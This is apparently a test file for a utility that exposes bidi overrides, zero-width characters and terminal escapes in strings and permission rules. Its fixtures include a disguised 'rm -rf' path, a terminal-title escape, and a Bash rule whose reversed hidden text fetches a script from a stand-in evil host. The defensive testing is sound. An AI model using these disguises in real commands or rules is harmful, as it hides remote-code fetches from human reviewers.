import { describe, expect, it } from "vitest";
import { hiddenKinds, revealDeep, revealHidden } from "./reveal";

describe("revealHidden", () => {
  it.each([
    ["bidi override", "rm -rf /tmp/\u202Efdp.exe", "rm -rf /tmp/⟨U+202E⟩fdp.exe", ["bidi control"]],
    ["isolates", "a\u2066b\u2069", "a⟨U+2066⟩b⟨U+2069⟩", ["bidi control"]],
    [
      "zero-width",
      "gi\u200Bt pu\u200Dsh\uFEFF\u2060",
      "gi⟨U+200B⟩t pu⟨U+200D⟩sh⟨U+FEFF⟩⟨U+2060⟩",
      ["invisible character"],
    ],
    ["terminal title escape", "s\u001b]0;pwned\u0007", "s⟨ESC⟩]0;pwned⟨BEL⟩", ["control character"]],
    ["ANSI colour and CR", "\u001b[31mred\r", "⟨ESC⟩[31mred⟨CR⟩", ["control character"]],
    ["8-bit CSI and NUL", "\u009b2J\u0000", "⟨U+009B⟩2J⟨U+0000⟩", ["control character"]],
    ["newlines and tabs stay", "a\n\tb", "a\n\tb", []],
    ["plain unicode stays", "café — 日本", "café — 日本", []],
  ])("%s", (_name, input, shown, kinds) => {
    expect(revealHidden(input)).toBe(shown);
    expect(hiddenKinds(input)).toEqual(kinds);
    expect(revealHidden(input)).not.toMatch(
      /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200B-\u200D\u2060\uFEFF]/,
    );
  });
});

describe("revealDeep (Rules page, Audit page, impact preview, clean-up diff)", () => {
  it("reveals every string of a listed value, keys too, and says whether there were any", () => {
    const entry = {
      rule: "Bash(git log \u202e;hs.x/moc.live//:sptth lruc\u202c)",
      usage: { count: 2 },
      tags: ["a\u200bb"],
    };
    const { value, hidden } = revealDeep(entry);
    expect(hidden).toBe(true);
    expect(value).toEqual({
      rule: "Bash(git log ⟨U+202E⟩;hs.x/moc.live//:sptth lruc⟨U+202C⟩)",
      usage: { count: 2 },
      tags: ["a⟨U+200B⟩b"],
    });
    expect(revealDeep({ ["k\u202e"]: 1 }).value).toEqual({ "k⟨U+202E⟩": 1 });
    const plain = { rule: "Bash(npm test:*)", n: null };
    expect(revealDeep(plain)).toEqual({ value: plain, hidden: false });
    expect(revealDeep(plain).value).toBe(plain);
  });
});
